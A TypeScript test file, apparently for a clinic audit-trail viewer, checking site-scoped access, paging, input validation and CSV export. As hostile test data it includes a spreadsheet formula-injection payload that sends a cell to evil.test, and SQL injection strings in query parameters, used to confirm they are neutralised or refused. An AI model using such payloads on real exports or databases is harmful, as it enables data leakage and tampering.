/**
 * The audit trail viewer (issue 22, Must 3) on both engines: the medical director filters their
 * site's events by patient, person, action, outcome and site-local dates, pages through them
 * newest first and exports them as CSV; administrators see every site's events without patient
 * data. Every attempt to break it is a row of a table: roles without the permission (refused and
 * recorded), another site's events, an administrator's patient filter, bad dates and limits (a
 * 400 naming the field), hostile text in a patient's name and MRN (neutralised in the CSV), events
 * that share a time (no duplicates or gaps between pages).
 */
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEventPage } from '@kairos/api';
import { localDateTimeToUtcIso } from '@kairos/core';
import { injectAs, signInAs, type TestAuth } from '../../../test/auth.js';
import { buildDemoApp, type ManualClock } from '../../../test/app.js';
import { describeEachEngine } from '../../../test/engines.js';
import { parseCsv } from '../../../test/parse-csv.js';
import { addSite, addStaff } from '../../../test/staff.js';
import { appendAuditRecords, stageAuditRecords, type AuditInput } from '../../services/audit.js';
import { exportAuditEvents } from '../../services/audit-trail/export-audit-events.js';
import type { Actor } from '../../services/context.js';

const HOSTILE_GIVEN = '=HYPERLINK("http://evil.test/?x="&A1,"Click")';
const HOSTILE_FAMILY = 'Smith, "Jr"';
const HOSTILE_MRN = '-1-1';
const SAME_TIME_EVENTS = 23;
/** 23:30 in New York (the demo site) on 20 Nov 2026: already 21 Nov in UTC. */
const SAME_TIME = localDateTimeToUtcIso('2026-11-20', 23 * 60 + 30, 'America/New_York');

describeEachEngine('audit trail viewer', (h) => {
  let app: FastifyInstance;
  let clock: ManualClock;
  let siteA: string;
  let siteB: string;
  let hostile: string;
  let patientB: string;
  const auth: Record<string, TestAuth> = {};
  const get = (who: string, url: string) => injectAs(app, auth[who] as TestAuth, { method: 'GET', url });
  const page = (r: LightMyRequestResponse): AuditEventPage => {
    expect(r.statusCode, r.body).toBe(200);
    return r.json<AuditEventPage>();
  };
  const lastSeq = async () =>
    (await h.database.db.selectFrom('audit_event').select('seq').orderBy('seq', 'desc').limit(1).executeTakeFirstOrThrow()).seq;
  const eventsSince = (seq: string, userId: string) =>
    h.database.db
      .selectFrom('audit_event')
      .select(['action', 'outcome', 'details', 'patient_id'])
      .where('seq', '>', seq)
      .where('user_id', '=', userId)
      .orderBy('seq')
      .execute();

  beforeAll(async () => {
    ({ app, clock } = await buildDemoApp(h.database));
    for (const who of ['director', 'admin', 'prescriber', 'nurse', 'therapist', 'coordinator'])
      auth[who] = await signInAs(app, `${who}@demo.test`);
    siteA = (
      await h.database.db.selectFrom('app_user').select('site_id').where('email', '=', 'director@demo.test').executeTakeFirstOrThrow()
    ).site_id as string;
    siteB = await addSite(app, 'Second clinic');
    await addStaff(h.database.db, clock.now(), 'director@b.test', ['medical-director'], siteB);
    await addStaff(h.database.db, clock.now(), 'coordinator@b.test', ['coordinator'], siteB);
    auth.directorB = await signInAs(app, 'director@b.test');
    auth.coordinatorB = await signInAs(app, 'coordinator@b.test');

    const created = await injectAs(app, auth.coordinator as TestAuth, {
      method: 'POST',
      url: '/api/patients',
      payload: { mrn: HOSTILE_MRN, givenName: HOSTILE_GIVEN, familyName: HOSTILE_FAMILY, birthDate: '1980-01-02' },
    });
    expect(created.statusCode, created.body).toBe(201);
    hostile = created.json<{ id: string }>().id;
    const createdB = await injectAs(app, auth.coordinatorB, {
      method: 'POST',
      url: '/api/patients',
      payload: { mrn: 'B-0001', givenName: 'Bea', familyName: 'Second', birthDate: '1980-02-03' },
    });
    expect(createdB.statusCode, createdB.body).toBe(201);
    patientB = createdB.json<{ id: string }>().id;
    expect((await get('director', `/api/patients/${hostile}`)).statusCode).toBe(200);
    expect((await get('coordinatorB', `/api/patients/${patientB}`)).statusCode).toBe(200);
    // This site's director tries the other site's patient: the refusal names that patient, so it is the other site's event.
    expect((await get('director', `/api/patients/${patientB}`)).statusCode).toBe(403);

    // Events that share one instant, late in the site's day (already the next day in UTC).
    const director = auth.director as TestAuth;
    const same: AuditInput[] = Array.from({ length: SAME_TIME_EVENTS }, (_, i) => ({
      userId: director.userId,
      userRoles: ['medical-director'],
      action: 'patient.read',
      recordType: 'patient',
      recordId: hostile,
      patientId: hostile,
      outcome: 'allowed',
      details: { n: i },
      at: new Date(SAME_TIME),
    }));
    await h.database.db.transaction().execute((tx) => appendAuditRecords(tx, same));
  });
  afterAll(async () => app.close());

  describe('the medical director', () => {
    it('filters by a patient: that patient’s events, by name, newest first, and their site’s time zone', async () => {
      const p = page(await get('director', `/api/audit-events?patientId=${hostile}&limit=200`));
      expect(p.patientsShown).toBe(true);
      expect(p.timeZone).toBe('America/New_York');
      expect(p.items.length).toBeGreaterThanOrEqual(SAME_TIME_EVENTS + 2);
      expect(p.items.every((e) => e.patient?.id === hostile)).toBe(true);
      expect(p.items[0]?.patient?.name).toBe(`${HOSTILE_GIVEN} ${HOSTILE_FAMILY}`);
      expect(p.items[0]?.patient?.mrn).toBe(HOSTILE_MRN);
      const created = p.items.find((e) => e.action === 'patient.create');
      const coordinator = await h.database.db
        .selectFrom('app_user')
        .select(['id', 'display_name'])
        .where('email', '=', 'coordinator@demo.test')
        .executeTakeFirstOrThrow();
      expect(created?.person).toEqual({ id: coordinator.id, displayName: coordinator.display_name });
      expect(created?.actionLabel).toBe('Created a patient record');
      const times = p.items.map((e) => e.at);
      expect([...times].sort().reverse()).toEqual(times);
    });

    it('filters by person, action, action prefix and outcome', async () => {
      const coordinator = (auth.coordinator as TestAuth).userId;
      const byPerson = page(await get('director', `/api/audit-events?userId=${coordinator}&limit=200`));
      expect(byPerson.items.length).toBeGreaterThan(0);
      expect(byPerson.items.every((e) => e.person?.id === coordinator)).toBe(true);
      const exact = page(await get('director', `/api/audit-events?action=patient.create&limit=200`));
      expect(exact.items.length).toBeGreaterThan(0);
      expect(exact.items.every((e) => e.action === 'patient.create')).toBe(true);
      const prefix = page(await get('director', `/api/audit-events?action=patient.*&limit=200`));
      expect(new Set(prefix.items.map((e) => e.action))).toContain('patient.read');
      expect(prefix.items.every((e) => e.action.startsWith('patient.'))).toBe(true);
      const denied = page(await get('director', `/api/audit-events?outcome=denied&limit=200`));
      expect(denied.items.every((e) => e.outcome === 'denied')).toBe(true);
    });

    it('reads dates as site-local days, both ends included (23:30 in New York is that day, not the next)', async () => {
      const inDay = page(await get('director', `/api/audit-events?patientId=${hostile}&from=2026-11-20&to=2026-11-20&limit=200`));
      expect(inDay.items.map((e) => e.at)).toEqual(Array(SAME_TIME_EVENTS).fill(SAME_TIME));
      const nextDay = page(await get('director', `/api/audit-events?patientId=${hostile}&from=2026-11-21&to=2026-11-21&limit=200`));
      expect(nextDay.items).toEqual([]);
    });

    it('pages events that share one time without duplicates or gaps', async () => {
      const all = page(await get('director', `/api/audit-events?patientId=${hostile}&from=2026-11-20&to=2026-11-20&limit=200`));
      const seen: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const p: AuditEventPage = page(
          await get(
            'director',
            `/api/audit-events?patientId=${hostile}&from=2026-11-20&to=2026-11-20&limit=5${cursor === null ? '' : `&cursor=${cursor}`}`,
          ),
        );
        seen.push(...p.items.map((e) => e.id));
        cursor = p.nextCursor;
        pages++;
      } while (cursor !== null && pages < 20);
      expect(pages).toBe(Math.ceil(SAME_TIME_EVENTS / 5));
      expect(new Set(seen).size).toBe(seen.length);
      expect(seen).toEqual(all.items.map((e) => e.id));
      expect(seen).toHaveLength(SAME_TIME_EVENTS);
    });

    it('each page read is one audit.read event (filters and patients named), never one per event shown', async () => {
      const director = (auth.director as TestAuth).userId;
      const seq = await lastSeq();
      const first = page(await get('director', `/api/audit-events?patientId=${hostile}&limit=10`));
      page(await get('director', `/api/audit-events?patientId=${hostile}&limit=10&cursor=${first.nextCursor ?? ''}`));
      const events = await eventsSince(seq, director);
      expect(events.map((e) => [e.action, e.outcome, e.patient_id])).toEqual([
        ['audit.read', 'allowed', hostile],
        ['audit.read', 'allowed', hostile],
      ]);
      expect(events[0]?.details).toMatchObject({ filters: { patientId: hostile }, page: 'first', events: 10, patientIds: [hostile] });
      expect(events[1]?.details).toMatchObject({ page: 'older' });
    });

    it('does not see another site’s events; the other site’s director does not see these', async () => {
      const mine = page(await get('director', '/api/audit-events?limit=200&action=patient.*'));
      expect(mine.items.some((e) => e.patient?.id === patientB)).toBe(false);
      const coordinatorB = (auth.coordinatorB as TestAuth).userId;
      expect(page(await get('director', `/api/audit-events?userId=${coordinatorB}&limit=200`)).items).toEqual([]);
      const theirs = page(await get('directorB', '/api/audit-events?limit=200'));
      expect(theirs.timeZone).toBe('America/Denver');
      expect(theirs.items.some((e) => e.patient?.id === patientB)).toBe(true);
      expect(theirs.items.some((e) => e.patient?.id === hostile)).toBe(false);
      expect(JSON.stringify(theirs)).not.toContain('HYPERLINK');
    });
  });

  describe('attempts to read the trail against the rules are refused and recorded', () => {
    const rows: [name: string, who: string, query: () => string, status: number, reason: string | null][] = [
      ['a prescriber (own patients’ reports only)', 'prescriber', () => '', 403, null],
      ['a nurse', 'nurse', () => '', 403, null],
      ['a therapist', 'therapist', () => '', 403, null],
      ['a coordinator', 'coordinator', () => '', 403, null],
      ['the director, asking for another site', 'director', () => `siteId=${siteB}`, 403, 'other site'],
      ['the director, for another site’s patient', 'director', () => `patientId=${patientB}`, 403, 'other site'],
      ['another site’s director, for this site’s patient', 'directorB', () => `patientId=${hostile}`, 403, 'other site'],
      ['an administrator, filtering by patient', 'admin', () => `patientId=${hostile}`, 403, 'admins see no patient data'],
    ];
    for (const path of ['/api/audit-events', '/api/audit-events.csv'])
      it.each(rows)(`${path}: %s`, async (_name, who, query, status, reason) => {
        const seq = await lastSeq();
        const r = await get(who, `${path}?${query()}`);
        expect(r.statusCode, r.body).toBe(status);
        expect(r.body).not.toContain('HYPERLINK');
        const events = await eventsSince(seq, (auth[who] as TestAuth).userId);
        expect(
          events.map((e) => e.outcome),
          'one refusal on the record, nothing read',
        ).toEqual(['denied']);
        expect(events[0]?.action).toMatch(/^audit\.(read|export)$/);
        if (reason !== null) expect((events[0]?.details as { reason?: string }).reason).toBe(reason);
      });
  });

  describe('bad input is a 400 naming the field', () => {
    const rows: [query: string, field: string][] = [
      ['from=2026-02-30', 'querystring.from'],
      ['to=2026-13-01', 'querystring.to'],
      ['from=2026-11-21&to=2026-11-20', 'querystring.to'],
      ['from=yesterday', 'querystring.from'],
      ['limit=0', 'querystring.limit'],
      ['limit=201', 'querystring.limit'],
      ['limit=ten', 'querystring.limit'],
      ['cursor=abc', 'querystring.cursor'],
      ['cursor=-1', 'querystring.cursor'],
      ['action=patient.read%3B%20DROP%20TABLE%20audit_event', 'querystring.action'],
      ['action=%3D1%2B1', 'querystring.action'],
      ['outcome=maybe', 'querystring.outcome'],
      ['patientId=not-an-id', 'querystring.patientId'],
      ['userId=1%27%20OR%20%271%27%3D%271', 'querystring.userId'],
      ['siteId=x', 'querystring.siteId'],
      ['sort=at', 'querystring'],
    ];
    it.each(rows)('%s', async (query, field) => {
      const r = await get('director', `/api/audit-events?${query}`);
      expect(r.statusCode, r.body).toBe(400);
      const issues = r.json<{ error: { details: { issues: { field: string }[] } } }>().error.details.issues;
      expect(issues.map((i) => i.field)).toContain(field);
    });
  });

  describe('the administrator sees no patient data', () => {
    it('sees every site’s events, those about a patient without the patient', async () => {
      const p = page(await get('admin', '/api/audit-events?limit=200&action=patient.*'));
      expect(p.patientsShown).toBe(false);
      expect(p.timeZone).toBe('UTC');
      expect(p.items.length).toBeGreaterThan(0);
      expect(p.items.every((e) => e.patient === null && e.reason === null)).toBe(true);
      expect(p.items.filter((e) => e.patientWithheld).length).toBeGreaterThan(0);
      const body = JSON.stringify(p);
      for (const secret of [hostile, patientB, 'HYPERLINK', HOSTILE_MRN, 'Bea', 'B-0001']) expect(body).not.toContain(secret);
    });

    it('may narrow to one site, in that site’s time zone', async () => {
      const p = page(await get('admin', `/api/audit-events?siteId=${siteB}&limit=200`));
      expect(p.timeZone).toBe('America/Denver');
      const coordinatorB = (auth.coordinatorB as TestAuth).userId;
      expect(p.items.some((e) => e.person?.id === coordinatorB)).toBe(true);
      expect(p.items.every((e) => e.patient === null)).toBe(true);
    });

    it('exports without patient names or MRNs', async () => {
      const r = await get('admin', '/api/audit-events.csv?action=patient.*');
      expect(r.statusCode, r.body).toBe(200);
      for (const secret of ['HYPERLINK', HOSTILE_MRN, 'Bea', 'B-0001']) expect(r.body).not.toContain(secret);
      expect(r.body).toContain('A patient (withheld: administrators see no patient data)');
    });
  });

  describe('CSV export', () => {
    it('streams the filtered events with names, neutralising formula-like cells (RFC 4180 quoting)', async () => {
      const director = (auth.director as TestAuth).userId;
      const seq = await lastSeq();
      const r = await get('director', `/api/audit-events.csv?patientId=${hostile}`);
      expect(r.statusCode, r.body).toBe(200);
      expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(r.headers['content-disposition']).toMatch(/^attachment; filename="audit-trail-\d{4}-\d{2}-\d{2}\.csv"$/);
      expect(r.body.startsWith('\uFEFF')).toBe(true);
      expect(r.body.endsWith('\r\n')).toBe(true);
      const rows = parseCsv(r.body.slice(1));
      const [header, ...data] = rows;
      expect(header?.[0]).toBe('Date (America/New_York)');
      expect(data.length).toBeGreaterThanOrEqual(SAME_TIME_EVENTS + 2);
      expect(data.every((row) => row.length === header?.length)).toBe(true);
      const col = (name: string) => header?.indexOf(name) ?? -1;
      for (const row of data) {
        expect(row[col('Patient')]).toBe(`'${HOSTILE_GIVEN} ${HOSTILE_FAMILY}`);
        expect(row[col('MRN')]).toBe(`'${HOSTILE_MRN}`);
      }
      // The raw text: the name is quoted with its quotes doubled, and no cell starts a formula.
      expect(r.body).toContain(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""Click"") Smith, ""Jr"""`);
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      const late = data.find((row) => row[col('Time (UTC)')] === SAME_TIME);
      expect(late?.[col('Date (America/New_York)')]).toBe('2026-11-20');
      expect(late?.[col('Time (America/New_York)')]).toBe('23:30:00');
      expect(late?.[col('Who')]).toBe(data.find((row) => row[col('Action code')] === 'patient.read')?.[col('Who')]);
      const events = await eventsSince(seq, director);
      expect(events.map((e) => [e.action, e.patient_id])).toEqual([['audit.export', hostile]]);
    });

    it('stops at its cap with a last line that says so, reading in chunks', async () => {
      const director = await h.database.db
        .selectFrom('app_user')
        .select(['id', 'email', 'display_name', 'roles', 'site_id'])
        .where('email', '=', 'director@demo.test')
        .executeTakeFirstOrThrow();
      const actor: Actor = {
        userId: director.id,
        email: director.email,
        displayName: director.display_name,
        roles: director.roles,
        siteId: director.site_id,
      };
      const meta = { requestId: 'cap-test', clientAddress: '127.0.0.1', now: clock.now() };
      const { lines } = await exportAuditEvents(h.database.db, actor, { patientId: hostile }, meta, { maxRows: 7, chunkRows: 3 });
      let text = '';
      for await (const line of lines) text += line;
      const rows = parseCsv(text.slice(1));
      expect(rows).toHaveLength(1 + 7 + 1);
      expect(rows.at(-1)?.[0]).toMatch(/^Export stopped at 7 events: more match these filters\. Narrow the dates or the filters/);
      const exact = await exportAuditEvents(h.database.db, actor, { patientId: hostile, from: '2026-11-20', to: '2026-11-20' }, meta, {
        maxRows: SAME_TIME_EVENTS,
        chunkRows: 4,
      });
      let all = '';
      for await (const line of exact.lines) all += line;
      expect(parseCsv(all.slice(1))).toHaveLength(1 + SAME_TIME_EVENTS);
    });
  });

  it('lists events staged a moment ago (they are sealed into the chain before the first page)', async () => {
    const director = (auth.director as TestAuth).userId;
    await h.database.db.transaction().execute((tx) =>
      stageAuditRecords(tx, [
        {
          userId: director,
          userRoles: ['medical-director'],
          action: 'test.staged',
          outcome: 'allowed',
          patientId: hostile,
          at: clock.now(),
        },
      ]),
    );
    const p = page(await get('director', '/api/audit-events?action=test.staged'));
    expect(p.items.map((e) => [e.action, e.patient?.id, e.actionLabel])).toEqual([['test.staged', hostile, 'test.staged']]);
    expect(siteA).not.toBe(siteB);
  });
});
